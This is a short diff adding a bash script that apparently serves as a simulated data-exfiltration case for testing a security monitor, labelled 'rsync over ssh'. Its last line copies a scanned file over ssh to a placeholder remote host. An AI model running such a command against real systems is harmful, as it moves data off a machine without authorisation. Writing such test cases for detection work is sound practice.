@@ -1,0 +1,7 @@
+#!/usr/bin/env bash
+# technique: rsync over ssh
+# hooks: file_open (of the scan), file_permission
+# sink: private-ssh
+
+. attack.sh
+timeout 9 rsync -e "ssh -p $PORT_SSH" "$SCAN" "keeper@$PRIVATE_HOST:$here.tif"
